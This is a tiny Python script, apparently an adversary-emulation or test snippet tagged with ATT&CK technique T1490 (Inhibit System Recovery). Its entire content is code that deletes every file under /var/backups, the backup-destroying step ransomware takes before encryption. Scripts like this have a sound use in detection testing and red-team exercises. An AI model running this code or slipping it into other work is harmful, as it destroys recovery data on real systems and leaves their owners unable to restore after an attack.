#!/usr/bin/env python3
# title: Python removes copies
# technique: T1490
# needs: python3

import glob, os
for path in glob.glob("/var/backups/*"): os.unlink(path)
